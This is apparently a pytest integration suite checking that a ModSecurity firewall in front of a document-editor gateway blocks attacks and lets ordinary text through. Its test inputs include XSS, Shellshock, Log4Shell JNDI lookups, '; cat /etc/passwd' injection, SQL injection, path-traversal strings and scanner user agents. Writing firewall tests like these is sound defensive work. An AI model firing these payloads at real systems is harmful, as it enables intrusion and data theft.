"""A corpus of attacks is refused wherever nobody types, and a corpus of real texts accepted wherever people do."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.integration.gateway.backends import Backends, eventually
from tests.integration.gateway.conftest import generous, modsecurity, write_editor
from tests.integration.gateway.harness import SIGNED_IN, RunningGateway, expect_problem, running_gateway, whole_lines

CORPUS = Path(__file__).parent / "corpus"
DOCUMENT = "0198c0de-0000-7000-8000-00000000000a"
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept": "application/json, text/plain, */*",
    "Accept-Language": "en-GB,en;q=0.7,de;q=0.3",
}
MARKDOWN = {"Content-Type": "text/markdown; charset=utf-8"}


def attacks() -> list[Any]:
    found: list[Any] = []
    kind = ""
    for line in (CORPUS / "attacks.txt").read_text(encoding="utf-8").splitlines():
        if line.startswith("## "):
            kind = line.removeprefix("## ")
        elif kind and line:
            found.append(pytest.param(line, id=f"{kind}-{len(found)}"))
    return found


def texts() -> list[Any]:
    whole = (CORPUS / "harmless.txt").read_text(encoding="utf-8").split("\n", 1)[1]
    return [pytest.param(text.strip("\n"), id=str(number)) for number, text in enumerate(whole.split("\n~~~\n"))]


@pytest.fixture(scope="module")
async def waf(shared_backends: Backends, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningGateway]:
    folder = tmp_path_factory.mktemp("corpus")
    write_editor(folder)
    async with running_gateway(folder, modsecurity(), shared_backends.addresses(), environment=generous()) as running:
        yield running


@pytest.fixture
async def client(waf: RunningGateway) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=waf.url, headers=SIGNED_IN | BROWSER, timeout=20) as opened:
        yield opened


@pytest.mark.parametrize("text", attacks())
async def test_attacks_are_refused_wherever_nobody_types(client: httpx.AsyncClient, backends: Backends, text: str):
    decoded = text.replace("%0d%0a", "\r\n").replace("%2f", "/")
    free = {"title": "Notes", "body": decoded, "anchor": {"quote": decoded}}
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", "/api/documents", {"params": {"cursor": decoded}}),
        ("GET", "/api/documents/search", {"params": {"q": "plans", "cursor": decoded}}),
        ("GET", f"/api/documents/{DOCUMENT}/export", {"params": {"format": decoded}}),
        ("PUT", f"/api/documents/{DOCUMENT}/members", {"json": {"email": "a@example.org", "role": decoded}}),
        ("POST", f"/api/documents/{DOCUMENT}/comments", {"json": free | {"mentions": [decoded]}}),
        ("PATCH", "/api/users/me", {"json": {"name": decoded, "color": decoded}}),
        (
            "POST",
            "/api/documents/import",
            {"params": {"filename": "a.md", "folder": decoded}, "content": decoded.encode(), "headers": MARKDOWN},
        ),
    ]
    for method, path, options in calls:
        answer = await client.request(method, path, **options)
        assert answer.status_code == 403, (method, path, options)
        expect_problem(answer, 403, "request-refused")
    assert [seen.path for backend in backends.http for seen in backend.seen if seen.path != "/internal/verify"] == []


@pytest.mark.parametrize("text", texts())
async def test_what_people_write_is_accepted_by_every_route_that_carries_it(
    client: httpx.AsyncClient, backends: Backends, text: str
):
    line = " ".join(text.split())[:400]
    email = "ann.o'neil+notes@example.org"
    comment = {"anchor": {"start": "AQ==", "end": "Ag==", "quote": text}, "body": text, "mentions": [DOCUMENT]}
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/api/documents", {"json": {"title": text}}),
        ("PATCH", f"/api/documents/{DOCUMENT}", {"json": {"title": text}, "headers": {"If-Match": '"7"'}}),
        ("POST", "/api/documents/folders", {"json": {"name": text, "parent": None}}),
        ("POST", "/api/documents/templates", {"json": {"name": text, "document": DOCUMENT}}),
        ("POST", f"/api/documents/{DOCUMENT}/comments", {"json": comment}),
        ("POST", f"/api/documents/{DOCUMENT}/comments/{DOCUMENT}/replies", {"json": {"body": text, "mentions": []}}),
        ("PATCH", f"/api/documents/{DOCUMENT}/comments/{DOCUMENT}", {"json": {"body": text}}),
        ("POST", f"/api/documents/{DOCUMENT}/attachments", {"json": {"name": text, "size": 5, "type": "text/plain"}}),
        ("POST", f"/api/documents/{DOCUMENT}/links", {"json": {"role": "viewer", "password": text}}),
        ("POST", "/api/documents/links/open", {"json": {"token": "4fJ2-x_9aBcDeF", "password": text}}),
        ("POST", "/api/documents/links/open", {"json": {"token": "4fJ2-x", "guest": {"key": "x-_9", "name": text}}}),
        ("POST", f"/api/documents/linked/{DOCUMENT}/comments", {"json": comment}),
        ("PATCH", f"/api/documents/linked/{DOCUMENT}/comments/{DOCUMENT}", {"json": {"body": text}}),
        ("GET", "/api/documents/search", {"params": {"q": line, "cursor": "eyJyYW5rIjowLjV9"}}),
        ("GET", "/api/users/search", {"params": {"q": line, "limit": "10"}}),
        ("GET", "/api/users", {"params": {"query": line, "state": "active"}}),
        ("PATCH", "/api/users/me", {"json": {"name": text}}),
        ("PATCH", f"/api/users/{DOCUMENT}", {"json": {"name": text}}),
        ("POST", "/api/users/teams", {"json": {"name": text}}),
        ("PATCH", f"/api/users/teams/{DOCUMENT}", {"json": {"name": text}, "headers": {"If-Match": '"7"'}}),
        ("PATCH", f"/api/documents/folders/{DOCUMENT}", {"json": {"name": text, "parent": DOCUMENT}}),
        ("POST", f"/api/documents/templates/{DOCUMENT}/documents", {"json": {"title": text, "folder": None}}),
        ("PATCH", f"/api/documents/{DOCUMENT}/links/{DOCUMENT}", {"json": {"password": text}}),
        ("POST", f"/api/collaboration/documents/{DOCUMENT}/versions", {"json": {"name": text}}),
        ("PATCH", f"/api/collaboration/documents/{DOCUMENT}/versions/{DOCUMENT}", {"json": {"name": text}}),
        ("POST", "/api/auth/tokens", {"json": {"name": text, "scopes": ["documents:read"], "expires_in_days": 30}}),
        ("PATCH", f"/api/auth/passkeys/{DOCUMENT}", {"json": {"name": text}}),
        ("POST", "/api/auth/sign-in", {"json": {"email": email, "password": text}}),
        ("POST", "/api/auth/register", {"json": {"email": email, "password": text, "name": text}}),
        ("POST", "/api/auth/account/password", {"json": {"current": text, "new": text}}),
        (
            "POST",
            "/api/documents/import",
            {"params": {"filename": f"{line[:80]}.md"}, "content": text.encode(), "headers": MARKDOWN},
        ),
    ]
    for method, path, options in calls:
        answer = await client.request(method, path, **options)
        assert answer.status_code == 200, (method, path, answer.text)
    bodies = [json.loads(seen.body) for seen in backends.document.seen if b'"body"' in seen.body]
    written = sum("body" in options.get("json", {}) for _, _, options in calls)
    assert [body["body"] for body in bodies] == [text] * written  # nothing was changed on the way
    assert backends.document.seen[-1].body == text.encode()


ADDRESSES = (
    "https://hooks.example.org/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "https://example.org/hook.php?id=1&cmd=run&select=all&from=collab;union=1",
    "https://example.org/a/../b/%2e%2e/etc/passwd?file=../../x&q=%27%20OR%201%3D1%20--",
    "https://example.org/hook?template=<b>{name}</b>&script=alert(1)&x=$(id)",
    "https://198.51.100.7:8443/exec?sh=/bin/sh",
    "https://[2001:db8::7]/webhook?token=abc.def-ghi_jkl",
    "https://münchen.example/straße?größe=5",
)


@pytest.mark.parametrize("address", ADDRESSES)
async def test_a_webhook_may_be_anywhere(waf: RunningGateway, client: httpx.AsyncClient, address: str):
    wanted = {"url": address, "events": ["document.created", "comment.created"], "reach": "owned"}
    for method, path in (("POST", "/api/documents/webhooks"), ("PATCH", f"/api/documents/webhooks/{DOCUMENT}")):
        answer = await client.request(method, path, json=wanted)
        assert answer.status_code == 200, answer.text
        assert (await waf.logged(answer.headers["x-request-id"]))["waf_score"] == 0


@pytest.mark.parametrize("address", [*ADDRESSES, "/documents/x", "/"])
async def test_pages_send_where_they_come_from(waf: RunningGateway, client: httpx.AsyncClient, address: str):
    """Whatever page of the editor's it is: a search for SQL, an editor's address with its fragment gone."""
    answer = await client.get("/api/documents", headers={"Referer": f"{waf.url}/search?q=drop+table+users"})
    back = await client.get("/api/auth/oidc/corp/start", params={"return_to": f"/documents/{DOCUMENT}?to={address}"})
    assert (answer.status_code, back.status_code) == (200, 200)


async def test_headers_are_inspected_beside_free_text(client: httpx.AsyncClient, backends: Backends):
    script, shell = "<script>alert(1)</script>", "() { :; }; /bin/bash -c id"
    look_up = "${${lower:j}ndi:ldap://example.org/a}"
    for headers in (
        {"Referer": script},
        {"User-Agent": script},
        {"User-Agent": shell},
        {"X-Api-Version": shell},
        {"User-Agent": look_up},
        {"X-Api-Version": "${jndi:ldap://example.org/a}"},
    ):
        search = await client.get("/api/documents/search", params={"q": "plans"}, headers=headers)
        comment = await client.post("/api/documents/x/comments", json={"body": "a"}, headers=headers)
        upload = await client.post("/api/documents/import", content=b"# a", headers=MARKDOWN | headers)
        assert [answer.status_code for answer in (search, comment, upload)] == [403] * 3, headers
    assert backends.document.seen == []


@pytest.mark.parametrize(
    ("path", "media_type"),
    [
        ("/api/documents/import?filename=a.html", "text/html"),
        ("/api/documents/import?filename=a.txt", "text/plain"),
        (
            "/api/documents/import?filename=a.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("/api/users/me/avatar", "image/png"),
        ("/api/users/me/avatar", "image/webp"),
    ],
)
async def test_files_pass_whole_with_their_own_types_and_sizes(
    client: httpx.AsyncClient, backends: Backends, path: str, media_type: str
):
    content = b"PK\x03\x04\x89PNG <script>alert(1)</script> ' OR 1=1 --\x00" * 60_000
    answer = await client.request("POST", path, content=content, headers={"Content-Type": media_type})

    assert answer.status_code == 200, answer.text
    assert [seen.body for http in (backends.user, backends.document) for seen in http.seen] == [content]
    for refused in ("application/x-php", "application/json", "multipart/form-data; boundary=x"):
        other = await client.request("POST", path, content=b"{}", headers={"Content-Type": refused})
        assert other.status_code in {400, 403}, refused


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "; cat /etc/passwd", "${jndi:ldap://example.org/a}"])
async def test_other_parts_of_a_request_with_free_text_are_inspected(
    client: httpx.AsyncClient, backends: Backends, text: str
):
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", "/api/documents/search", {"params": {"q": "a", text: "b"}}),
        ("GET", "/api/documents/search", {"params": {"q": "a", "json.title": text}}),
        ("POST", "/api/documents/import", {"content": b"# a", "headers": MARKDOWN, "params": {text: "b"}}),
        ("POST", "/api/documents", {"json": {"title": "a", text: "b"}}),
        ("POST", "/api/documents", {"json": {"title": "a"}, "params": {"title": text}}),
        ("POST", "/api/documents", {"json": {"title": ["a", {"deep": text}]}}),
    ]
    for method, path, options in calls:
        answer = await client.request(method, path, **options)
        assert answer.status_code == 403, (method, path, options)
    assert backends.document.seen == []


@pytest.mark.parametrize(
    "path",
    [
        "/api/documents/x/../search?q=a",
        "//api/documents/search?q=a",
        "/api/documents/..%2fdocuments/search?q=a",
        "/api/auth/oidc/../oidc/corp/start?return_to=/",
        "/api/auth/oidc/<script>/start",
        "/api/auth/oidc/corp;id/start",
    ],
)
async def test_where_the_whole_address_is_not_inspected_its_path_has_to_be_the_routes(
    waf: RunningGateway, backends: Backends, path: str
):
    request = httpx.Request("GET", waf.url, headers=SIGNED_IN | BROWSER, extensions={"target": path.encode()})
    async with httpx.AsyncClient(timeout=30) as client:
        assert (await client.send(request)).status_code == 403
    assert [seen.path for seen in backends.document.seen] == []


async def test_the_way_back_from_a_provider_passes(client: httpx.AsyncClient):
    answer = await client.get(
        "/api/auth/oidc/corp/callback",
        params={
            "code": "4/0AX4XfWj--/*' OR 1=1",
            "state": "eyJyIjoiLyJ9.<x>",
            "scope": "openid email https://www.googleapis.com/auth/userinfo.email",
            "iss": "https://198.51.100.7/realm",
        },
    )
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize(
    "agent", ["sqlmap/1.7", "Nikto/2.5.0", "masscan/1.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "wfuzz/3"]
)
async def test_scanners_are_refused(client: httpx.AsyncClient, agent: str):
    answer = await client.get("/api/documents", headers={"User-Agent": agent})
    expect_problem(answer, 403, "request-refused")


async def test_the_score_of_a_refused_request_is_in_the_access_log_and_the_rules_in_the_audit_log(
    waf: RunningGateway, client: httpx.AsyncClient
):
    answer = await client.get("/api/documents", params={"cursor": "<script>alert(1)</script>"})
    request_id = answer.headers["x-request-id"]
    line = await waf.logged(request_id)

    assert line["waf_score"] == 15
    assert (line["status"], line["route"], line["method"]) == (403, "documents", "GET")
    assert "x-waf-score" not in answer.headers
    audited = await audit_line(waf, request_id)
    assert re.search(r"Inbound Anomaly Score Exceeded \(Total Score: 15\)", audited)
    assert '"941100"' in audited


async def test_a_suspicious_request_is_answered_and_its_score_logged(
    waf: RunningGateway, client: httpx.AsyncClient, backends: Backends
):
    for method, path, body in (
        ("GET", "/api/documents", None),
        ("POST", "/api/auth/sign-in", {"password": "<script>"}),
    ):
        answer = await client.request(method, path, json=body, headers={"User-Agent": "", "X-Waf-Score": "77"})
        request_id = answer.headers["x-request-id"]
        line = await waf.logged(request_id)

        assert answer.status_code == 200
        assert 0 < line["waf_score"] < 5
        assert len([each for each in waf.access_log() if each["request_id"] == request_id]) == 1
        assert "Inbound anomaly score" in await audit_line(waf, request_id)
    assert len(backends.document.seen) == 1
    assert json.loads(backends.auth.seen[-1].body) == {"password": "<script>"}


async def test_a_good_request_scores_nothing(waf: RunningGateway, client: httpx.AsyncClient):
    answer = await client.get("/api/documents", headers={"X-Waf-Score": "77"})
    page = await client.get("/")

    assert (await waf.logged(answer.headers["x-request-id"]))["waf_score"] == 0
    assert (await waf.logged(page.headers["x-request-id"]))["waf_score"] is None


async def audit_line(waf: RunningGateway, request_id: str) -> str:
    def found() -> str:
        return next((line for line in whole_lines(waf.folder / "log/waf-audit.log") if request_id in line), "")

    await eventually(lambda: bool(found()))
    return found()
